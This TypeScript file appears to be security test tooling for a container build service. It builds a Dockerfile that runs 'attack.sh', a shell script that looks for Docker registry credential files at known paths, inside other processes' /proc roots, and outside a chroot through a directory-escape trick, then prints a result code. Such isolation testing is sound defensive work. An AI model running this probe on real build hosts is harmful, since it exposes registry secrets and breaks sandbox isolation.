/**
 * Looks for the registry credentials: at their path, in the file systems and the variables of all processes, and outside of
 * a chroot. In the file system of the kernel, a process whose root is in `/proc` has its own program and the directory that
 * it has opened before.
 */
const FIND_CREDENTIALS = `#!/bin/sh
result=NONE
files='kaniko/.docker/config.json run/registry-login/config.json home/user/.docker/config.json root/.docker/config.json'
for file in $files; do
  grep -qs '"auths"' "/$file" && result=BY_PATH
  for process in /proc/[0-9]*; do grep -qs '"auths"' "$process/root/$file" && result=BY_PROCESS; done
done
exec 3</
if chroot /proc "/$$/root/bin/busybox" sh -c '
  cd -P /self/fd/3
  levels=40
  while [ $levels -gt 0 ]; do cd -P ..; levels=$((levels - 1)); done
  for file do "/$PPID/root/bin/busybox" grep -qs auths "$file" && exit 0; done
  exit 1
' find $files; then
  result=\${result}_OUTSIDE_CHROOT
fi
echo "RESULT=$result"
exit 1
`;

/** A Dockerfile with an instruction that runs a script. */
export function attackFiles(image: string, script: string): { readonly [name: string]: string } {
  return { Dockerfile: `FROM ${image}\nCOPY attack.sh /\nRUN sh /attack.sh\n`, 'attack.sh': script };
}

/** A Dockerfile with an instruction that looks for the registry credentials. */
export function findCredentials(image: string): { readonly [name: string]: string } {
  return attackFiles(image, FIND_CREDENTIALS);
}
